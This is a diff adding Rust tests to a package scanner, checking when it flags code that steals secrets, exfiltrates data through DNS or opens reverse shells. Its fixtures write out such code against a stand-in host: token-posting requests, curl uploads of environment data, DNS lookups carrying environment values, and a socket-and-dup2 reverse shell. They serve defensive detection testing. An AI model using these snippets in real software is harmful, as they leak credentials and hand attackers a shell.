@@ -436,3 +436,95 @@ fn every_rule_is_in_the_guide() {
         assert!(guide.contains(&format!("`{}`", rule.id)), "docs/scan.md does not tell of {}", rule.id);
     }
 }
+
+/// What runs only where a file is started as a program is told apart from what runs on import, and from what looks like it.
+#[test]
+fn only_the_guard_itself_keeps_code_from_running_on_import() {
+    let steal = "import os, requests\ndef go():\n    requests.post('https://c.example.invalid', headers={'t': os.environ['API_TOKEN']})\n";
+    let guarded = |guard: &str| gravest(&wheel_with("a/b.py", &format!("{steal}{guard}")), "code:steal");
+    for guard in ["if __name__ == '__main__':\n    go()\n", "if (\"__main__\"  ==  __name__):\n    go()\n"] {
+        assert_eq!(guarded(guard), Some(Info), "{guard}");
+    }
+    for guard in [
+        "if __name__ != '__main__':\n    go()\n",
+        "if __name__ == '__main__' or go():\n    pass\n",
+        "if __name__ == '__main__':\n    pass\nelse:\n    go()\n",
+        "if __name__ == '__main__':\n    pass\nelif go():\n    pass\n",
+    ] {
+        assert_eq!(guarded(guard), Some(High), "{guard}");
+    }
+    let steal =
+        "async function go() { await fetch('https://c.example.invalid', {headers: {t: process.env.API_TOKEN}}) }\n";
+    let loaded = |text: &str| scanned("a-1.0.0.tgz", &tgz_of(&[("package/index.js", text)]));
+    let guarded = |guard: &str| gravest(&loaded(&format!("{steal}{guard}")), "code:steal");
+    for guard in ["if (require.main === module) { go() }", "if (module == require.main) go()"] {
+        assert_eq!(guarded(guard), Some(Info), "{guard}");
+    }
+    for guard in [
+        "if (require.main !== module) { go() }",
+        "if (require.main === module) { } else { go() }",
+        "if (require.main === module || true) { go() }",
+        "if (require.main === other) { go() }",
+    ] {
+        assert_eq!(guarded(guard), Some(High), "{guard}");
+    }
+}
+
+/// False alarms that well-known packages brought, each beside what must stay one.
+#[test]
+fn what_a_call_is_set_up_with_is_not_what_it_sends() {
+    let run = |options: &str, command: &str| {
+        npm(&format!("const c = require('child_process');\nc.spawn('sh', ['-c', '{command}'], {options});\n"))
+    };
+    assert_eq!(
+        gravest(&run("{env: process.env, stdio: 'inherit'}", "curl -s https://c.example.invalid/a"), "code:steal"),
+        None
+    );
+    found(&run("{env: process.env}", "curl -d \"$KEY\" https://c.example.invalid"), "code:steal", Critical);
+    found(&run("{input: JSON.stringify(process.env)}", "curl -d @- https://c.example.invalid"), "code:steal", Critical);
+    let python = |more: &str| {
+        wheel_with("a/b.py", &format!("import os, subprocess, urllib.request\nenv = dict(os.environ)\n{more}\n"))
+    };
+    let quiet = [
+        "import requests\nrequests.get(fetched('a', env=env))",
+        "subprocess.run(['curl', 'https://c.example.invalid'], env=env)",
+        "urllib.request.urlopen('https://c.example.invalid', context=env)",
+    ];
+    for text in quiet {
+        assert_eq!(gravest(&python(text), "code:steal"), None, "{text}");
+    }
+    found(&python("urllib.request.urlopen('https://c.example.invalid', data=env)"), "code:steal", Critical);
+    found(&python("subprocess.run(['curl', '-d', str(env), 'https://c.example.invalid'])"), "code:steal", Critical);
+}
+
+#[test]
+fn a_host_out_of_the_environment_is_looked_up_and_data_before_a_domain_is_sent() {
+    let lookup = |name: &str| {
+        npm(&format!(
+            "const dns = require('dns');\nconst host = process.env['DB' + x];\ndns.lookup({name}, () => 1);\n"
+        ))
+    };
+    assert_eq!(gravest(&lookup("host"), "code:steal"), None);
+    found(&lookup("host + '.c.example.invalid'"), "code:steal", Critical);
+    found(&lookup("[host, domain].join('.')"), "code:steal", Critical);
+    let python = |name: &str| {
+        wheel_with("a/b.py", &format!("import os, socket\nhost = str(os.environ)\nsocket.gethostbyname({name})\n"))
+    };
+    assert_eq!(gravest(&python("host"), "code:steal"), None);
+    found(&python("'.'.join([host, domain])"), "code:steal", Critical);
+    found(&python("f'{host}.{domain}'"), "code:steal", Critical);
+}
+
+#[test]
+fn a_connection_to_this_machine_hands_it_to_nobody() {
+    let shell = |host: &str| {
+        wheel_with(
+            "a/b.py",
+            &format!("import os, socket\ns = socket.socket()\ns.connect(({host}, 4444))\nos.dup2(s.fileno(), 0)\n"),
+        )
+    };
+    assert_eq!(gravest(&shell("'127.0.0.1'"), "code:reverse-shell"), None);
+    for host in ["'c.example.invalid'", "host", "'127.0.0.1' + x", "'127.0.0.1.c.example.invalid'"] {
+        found(&shell(host), "code:reverse-shell", Critical);
+    }
+}
